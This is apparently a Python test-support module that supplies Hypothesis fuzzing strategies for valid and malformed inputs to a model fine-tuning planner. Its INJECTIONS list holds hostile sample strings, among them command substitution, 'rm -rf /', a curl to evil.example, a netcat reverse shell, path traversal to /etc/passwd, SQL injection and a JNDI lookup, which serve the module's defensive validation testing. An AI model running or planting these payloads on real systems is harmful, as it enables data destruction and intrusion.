"""Hypothesis strategies: valid execution inputs, and malformed ones (a valid input with one deliberate defect).

A malformed input is built as "valid input + one mutation", so every example is known to be wrong, and wrong in one
named way: the test can then demand that Plan refuses it with `InvalidExecutionInput` naming a field.
"""

from __future__ import annotations

import math
import re
import unicodedata
from collections.abc import Mapping
from typing import Any

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

from lambdas import catalog
from tests.support.lambdas import BUCKET

# Every fuzz test's settings: deterministic in CI (the same 500 examples every run); no deadline, since the first
# example pays for imports.
FUZZ = settings(
    max_examples=500,
    deadline=None,
    derandomize=True,
    database=None,  # deterministic runs need no example database (nothing written to .hypothesis/)
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)


def _number_kind(hp: catalog.Hyperparameter) -> type:
    return int if "integer" in hp.json_type else float


def _low(bounds: Mapping[str, float]) -> float | None:
    return bounds.get("minimum", bounds.get("exclusiveMinimum"))


def _high(bounds: Mapping[str, float]) -> float | None:
    return bounds.get("maximum", bounds.get("exclusiveMaximum"))


# Fields of one experiment with their (type, minimum, maximum): the hyperparameter table's bounds (which the schema
# states), and params_billion, the model's size rather than a setting. None: no bound on that side.
_BOUNDED = {hp.name: hp for hp in catalog.HYPERPARAMETERS if hp.bounds}
NUMBER_FIELDS: dict[str, tuple[type, float | None, float | None]] = {
    **{
        hp.name: (_number_kind(hp), _low(hp.bounds), _high(hp.bounds))
        for hp in _BOUNDED.values()
        if hp.source is catalog.Source.EXPERIMENT and hp.name != "max_seq_length"  # its own mutation below
    },
    "params_billion": (float, 0, 1000),  # exclusive minimum
}
TOP_NUMBER_FIELDS: dict[str, tuple[type, float | None, float | None]] = {
    "max_runtime_hours": (float, 0, 672),
    "budget_usd": (float, 0, None),
    "eval_samples": (int, _low(_BOUNDED["eval_samples"].bounds), _high(_BOUNDED["eval_samples"].bounds)),
}


def within(bounds: Mapping[str, float], kind: type, *, at_most: float | None = None) -> st.SearchStrategy[Any]:
    """Numbers inside a JSON Schema range (open ends excluded); `at_most` narrows the top, for sizes whose upper end
    the schema allows but the memory planner would refuse every time (the test then plans nothing)."""
    low, high = _low(bounds), _high(bounds)
    if at_most is not None:
        high = at_most if high is None else min(high, at_most)
    if kind is int:
        low_int = None if low is None else int(low) + int("exclusiveMinimum" in bounds)
        high_int = None if high is None else int(high) - int("exclusiveMaximum" in bounds and high == _high(bounds))
        return st.integers(low_int, high_int)
    return st.floats(
        low,
        high,
        exclude_min="exclusiveMinimum" in bounds,
        exclude_max="exclusiveMaximum" in bounds and high == _high(bounds),
        allow_nan=False,
        allow_infinity=False,
    )


def table_values(name: str, *, at_most: float | None = None) -> st.SearchStrategy[Any]:
    """Values of hyperparameter `name` that its table bounds (and so the schema) accept."""
    hp = _BOUNDED[name]
    return within(hp.bounds, _number_kind(hp), at_most=at_most)


EXPERIMENT_FIELDS = (
    "model",
    "approach",
    "instance_type",
    *NUMBER_FIELDS,
    "max_seq_length",
    "prompt_style",
    "merge_adapter",
)

# Strings an attacker (or a bad paste) might put where a name goes: shell, path, SQL, template and log injection.
INJECTIONS = (
    "$(reboot)",
    "`id`",
    "; rm -rf /",
    "a && curl evil.example",
    "| nc -e sh 1.2.3.4 4444",
    "../../etc/passwd",
    "..",
    "' OR '1'='1",
    '"; DROP TABLE runs; --',
    "${jndi:ldap://x/a}",
    "{{7*7}}",
    "%s%s%s%n",
    "\x00",
    "a\nb",
    "line\r\nInjected: header",
    "name\n",
    "\u202eevil",
    "\u2028",
    "\ufeffbom",
    "tab\there",
    " leading",
    "trailing ",
    "*",
    "?",
    "s3://other-bucket/",
    "arn:aws:iam::123456789012:role/admin",
    "🦙/🦙",
    "org/name\n",
    "org/name;id",
    "org/ name",
    "ORG/../name",
)

# Text with everything Hypothesis likes to throw: control characters, surrogates excluded (JSON cannot carry them).
any_text = st.text(st.characters(exclude_categories=("Cs",)), max_size=40)
nasty_text = st.one_of(st.sampled_from(INJECTIONS), any_text, st.text(st.characters(codec="ascii"), max_size=30))
non_finite = st.sampled_from([math.nan, math.inf, -math.inf])

# Hub ids the catalog accepts: `org/name`, 1..96 characters each of [A-Za-z0-9._-] starting alphanumeric.
_ID_PART = st.from_regex(r"\A[A-Za-z0-9][A-Za-z0-9._-]{0,30}\Z")
hub_ids = st.builds(lambda org, name: f"{org}/{name}", _ID_PART, _ID_PART)
# S3 key segments that are fine for the service: any printable text without '/' (unicode letters and spaces too).
_SEGMENT = st.text(
    st.characters(exclude_categories=("Cc", "Cf", "Cs", "Zl", "Zp", "Co", "Cn"), exclude_characters="/"),
    min_size=1,
    max_size=20,
).filter(lambda s: s.strip() == s and s not in (".", ".."))


@st.composite
def valid_experiment(draw: st.DrawFn) -> dict[str, Any]:
    """One experiment within the schema's ranges (it may still be infeasible for the memory planner)."""
    experiment: dict[str, Any] = {
        "model": draw(st.one_of(st.sampled_from(sorted(catalog.MODELS)), hub_ids)),
        "approach": draw(st.sampled_from(catalog.APPROACHES)),
    }
    if "/" in experiment["model"] and draw(st.booleans()):
        experiment["params_billion"] = draw(st.floats(0.05, 80, allow_nan=False))
    if draw(st.booleans()):
        experiment["instance_type"] = draw(st.sampled_from(sorted(catalog.INSTANCES)))
    optional = {
        # The table's whole range (the ends included where closed, their neighbours where open), so a value the
        # schema accepts and the training code refuses shows up here.
        "epochs": table_values("epochs"),
        "batch_size": table_values("batch_size", at_most=64),
        "learning_rate": st.one_of(st.none(), table_values("learning_rate")),
        "lora_r": table_values("lora_r", at_most=256),
        "lora_alpha": table_values("lora_alpha"),
        "lora_dropout": table_values("lora_dropout"),
        "max_steps": table_values("max_steps").filter(lambda steps: steps != 0),  # the schema's `not 0`
        "max_seq_length": st.one_of(st.just("auto"), table_values("max_seq_length", at_most=4096)),
        "prompt_style": st.sampled_from(catalog.PROMPT_STYLES),
        "merge_adapter": st.booleans(),
    }
    for name, strategy in optional.items():
        if draw(st.integers(0, 3)) == 0:
            experiment[name] = draw(strategy)
    return experiment


@st.composite
def valid_dataset(draw: st.DrawFn) -> dict[str, str]:
    """A dataset by name, or by two URIs under the data bucket's datasets/ prefix (any printable key text)."""
    if draw(st.booleans()):
        return {"name": draw(st.from_regex(r"\A[A-Za-z0-9][A-Za-z0-9._-]{0,40}\Z"))}
    segments = draw(st.lists(_SEGMENT, min_size=1, max_size=3))
    base = f"s3://{BUCKET}/datasets/{'/'.join(segments)}/"
    return {"train_s3_uri": base + "train/", "test_s3_uri": base + "test/"}


@st.composite
def valid_input(draw: st.DrawFn) -> dict[str, Any]:
    """An execution input the schema accepts (a large budget, so most plan into jobs)."""
    doc: dict[str, Any] = {}
    if draw(st.integers(0, 4)):
        doc["experiments"] = draw(st.lists(valid_experiment(), min_size=1, max_size=3))
    if draw(st.booleans()):
        doc["dataset"] = draw(valid_dataset())
    if draw(st.booleans()):
        doc["spot"] = draw(st.booleans())
    if draw(st.booleans()):
        doc["max_runtime_hours"] = draw(st.floats(0.01, 12, allow_nan=False))
    doc["budget_usd"] = draw(st.one_of(st.just(1e9), st.floats(0, 1e9, allow_nan=False)))
    if draw(st.booleans()):
        doc["eval_samples"] = draw(st.integers(1, 100000))
    return doc


def _wrong_type(expected: type) -> st.SearchStrategy[Any]:
    """A JSON value of another type than `expected` (bool is not a number, a number is not a bool)."""
    everything = {
        str: st.one_of(nasty_text, st.just("")),
        int: st.integers(-(10**30), 10**30),
        float: st.floats(allow_nan=True, allow_infinity=True).filter(lambda f: not float(f).is_integer()),
        bool: st.booleans(),
        list: st.lists(st.integers(), max_size=3),
        dict: st.dictionaries(st.text(max_size=5), st.integers(), max_size=3),
        type(None): st.none(),
    }
    if expected is float:  # any number is a number
        excluded = {int, float}
    elif expected is int:  # 8.0 is an integer to JSON Schema; 8.5 is not
        excluded = {int}
    else:
        excluded = {expected}
    return st.one_of(*[strategy for kind, strategy in everything.items() if kind not in excluded])


def _out_of_range(
    kind: type, low: float | None, high: float | None, *, exclusive_low: bool, exclusive_high: bool = False
) -> Any:
    """A number outside [low, high] (or the open end itself), or not finite."""
    options: list[st.SearchStrategy[Any]] = [non_finite] if kind is float else []
    if low is not None:
        below = (
            st.floats(max_value=low, allow_nan=False, allow_infinity=False).filter(lambda f: f <= low)
            if exclusive_low and kind is float
            else st.integers(max_value=int(low) - 1)
        )
        options.append(below)
    if high is not None:
        options.append(
            st.floats(min_value=high, allow_nan=False, allow_infinity=False, exclude_min=True)
            if kind is float
            else st.integers(min_value=int(high) + 1)
        )
        if exclusive_high:
            options.append(st.just(high))  # an open end itself: learning_rate 1 once passed the schema
    return st.one_of(*options)


_EXCLUSIVE_LOW = {"params_billion", "max_runtime_hours"} | {
    name for name, hp in _BOUNDED.items() if "exclusiveMinimum" in hp.bounds
}
_EXCLUSIVE_HIGH = {name for name, hp in _BOUNDED.items() if "exclusiveMaximum" in hp.bounds}


@st.composite
def malformed_input(draw: st.DrawFn) -> tuple[str, Any]:
    """(what is wrong, an execution input with exactly that defect)."""
    doc = draw(valid_input())
    doc.setdefault("experiments", [{"model": "mistral-7b", "approach": "lora"}])
    doc["experiments"] = [dict(e) for e in doc["experiments"]]
    experiment = doc["experiments"][draw(st.integers(0, len(doc["experiments"]) - 1))]
    kind = draw(
        st.sampled_from(
            [
                "unknown top-level field",
                "unknown experiment field",
                "experiment field of the wrong type",
                "top-level field of the wrong type",
                "experiment number out of range",
                "top-level number out of range",
                "model name",
                "approach",
                "instance type",
                "prompt style or max_seq_length",
                "dataset name",
                "dataset URI",
                "dataset of both kinds",
                "huge experiment list",
                "empty experiment list",
                "experiment not an object",
                "missing model or approach",
                "params_billion for a catalog model",
                "not an object",
            ]
        )
    )
    if kind == "not an object":
        return kind, draw(st.one_of(st.lists(st.integers(), max_size=3), nasty_text, st.integers(), st.booleans()))
    if kind == "unknown top-level field":
        name = draw(nasty_text.filter(lambda s: s not in ("experiments", "dataset", "spot", *TOP_NUMBER_FIELDS)))
        doc[name] = draw(st.one_of(nasty_text, st.integers()))
    elif kind == "unknown experiment field":
        experiment[draw(nasty_text.filter(lambda s: s not in EXPERIMENT_FIELDS))] = draw(nasty_text)
    elif kind == "experiment field of the wrong type":
        field = draw(st.sampled_from([*NUMBER_FIELDS, "model", "merge_adapter", "max_seq_length"]))
        expected = (
            NUMBER_FIELDS[field][0] if field in NUMBER_FIELDS else {"model": str, "merge_adapter": bool}.get(field, int)
        )
        value = draw(_wrong_type(expected))
        if field == "learning_rate" and value is None:  # null is "auto" there
            value = "fast"
        if field == "max_seq_length" and value == "auto":
            value = "automatic"
        experiment[field] = value
    elif kind == "top-level field of the wrong type":
        field = draw(st.sampled_from(["spot", "experiments", "dataset", *TOP_NUMBER_FIELDS]))
        expected = {"spot": bool, "experiments": list, "dataset": dict}.get(field) or TOP_NUMBER_FIELDS[field][0]
        doc[field] = draw(_wrong_type(expected))
    elif kind == "experiment number out of range":
        field = draw(st.sampled_from(sorted(NUMBER_FIELDS)))
        number_kind, low, high = NUMBER_FIELDS[field]
        value = draw(
            _out_of_range(
                number_kind,
                low,
                high,
                exclusive_low=field in _EXCLUSIVE_LOW,
                exclusive_high=field in _EXCLUSIVE_HIGH,
            )
        )
        if field == "max_steps" and value == 0:
            value = -2
        experiment[field] = value
    elif kind == "top-level number out of range":
        field = draw(st.sampled_from(sorted(TOP_NUMBER_FIELDS)))
        number_kind, low, high = TOP_NUMBER_FIELDS[field]
        doc[field] = draw(_out_of_range(number_kind, low, high, exclusive_low=field in _EXCLUSIVE_LOW))
    elif kind == "model name":
        experiment["model"] = draw(
            st.one_of(
                nasty_text.filter(lambda s: s not in catalog.MODELS and not catalog.HF_ID_PATTERN.fullmatch(s)),
                st.sampled_from(INJECTIONS).map(lambda s: f"org/{s}"),
                st.sampled_from(INJECTIONS).map(lambda s: f"mistral-7b{s}"),
                st.text(st.characters(codec="ascii"), min_size=201, max_size=300),
            )
        )
        experiment.pop("params_billion", None)
    elif kind == "approach":
        experiment["approach"] = draw(nasty_text.filter(lambda s: s not in catalog.APPROACHES))
    elif kind == "instance type":
        experiment["instance_type"] = draw(
            st.one_of(nasty_text, st.from_regex(r"\Aml\.[a-z0-9]{1,6}\.[a-z0-9]{1,10}\Z")).filter(
                lambda s: s not in catalog.INSTANCES
            )
        )
    elif kind == "prompt style or max_seq_length":
        field = draw(st.sampled_from(["prompt_style", "max_seq_length"]))
        experiment[field] = draw(nasty_text.filter(lambda s: s not in (*catalog.PROMPT_STYLES, "auto")))
    elif kind == "dataset name":
        doc["dataset"] = {
            "name": draw(
                st.one_of(
                    nasty_text,
                    st.sampled_from(INJECTIONS).map(lambda s: f"banking77{s}"),
                    st.just("x" * 129),
                    st.just(""),
                ).filter(lambda s: not _DATASET_NAME.fullmatch(s))
            )
        }
    elif kind == "dataset URI":
        good = f"s3://{BUCKET}/datasets/d/"
        bad = draw(
            st.one_of(
                st.sampled_from(INJECTIONS).map(lambda s: f"s3://{BUCKET}/datasets/d{s}"),
                st.sampled_from(INJECTIONS).map(lambda s: f"s3://{BUCKET}/datasets/{s}/x/"),
                st.sampled_from(INJECTIONS).map(lambda s: f"s3://{BUCKET}/datasets/d/{s}/"),
                st.just(f"s3://{BUCKET}/datasets/d"),  # not a prefix
                st.just(f"s3://{BUCKET}/other/d/"),  # outside datasets/
                st.just("s3://another-bucket/datasets/d/"),
                st.just(f"https://{BUCKET}.s3.amazonaws.com/datasets/d/"),
                st.just(f"s3://{BUCKET}/datasets/" + "k" * 1100 + "/"),  # longer than S3Uri's 1024
                st.just(f"S3://{BUCKET}/datasets/d/"),
                nasty_text,
            ).filter(lambda s: not _is_acceptable_uri(s))
        )
        field = draw(st.sampled_from(["train_s3_uri", "test_s3_uri"]))
        doc["dataset"] = {"train_s3_uri": good, "test_s3_uri": good, field: bad}
        # Where a well-formed URI points is checked after the memory fit (Plan's order): keep the jobs feasible, so
        # the URI is the input's only defect.
        doc["experiments"] = [{"model": "mistral-7b", "approach": "lora"}]
    elif kind == "dataset of both kinds":
        doc["dataset"] = {"name": "banking77", "train_s3_uri": f"s3://{BUCKET}/datasets/d/"}
    elif kind == "huge experiment list":
        doc["experiments"] = [experiment] * draw(st.integers(51, 600))
    elif kind == "empty experiment list":
        doc["experiments"] = []
    elif kind == "experiment not an object":
        doc["experiments"][0] = draw(st.one_of(nasty_text, st.integers(), st.none(), st.lists(st.integers())))
    elif kind == "missing model or approach":
        experiment.pop(draw(st.sampled_from(["model", "approach"])))
    elif kind == "params_billion for a catalog model":
        experiment["model"] = draw(st.sampled_from(sorted(catalog.MODELS)))
        experiment["params_billion"] = draw(st.floats(0.1, 100))
    return kind, doc


_DATASET_NAME = re.compile(r"[A-Za-z0-9][A-Za-z0-9._-]{0,127}")
# Unicode categories no name or URI of an execution input has any business holding: control, format (e.g. the
# right-to-left override), surrogate, private-use, unassigned characters, and line/paragraph separators.
UNPRINTABLE_CATEGORIES = frozenset({"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"})


def _is_acceptable_uri(uri: str) -> bool:
    """What a correct dataset URI looks like (the fuzzer's own definition, stricter than any one check)."""
    return bool(
        re.fullmatch(rf"s3://{re.escape(BUCKET)}/datasets/.+/", uri, flags=re.DOTALL)
        and len(uri) <= 1024
        and not any(unicodedata.category(char) in UNPRINTABLE_CATEGORIES for char in uri)
    )
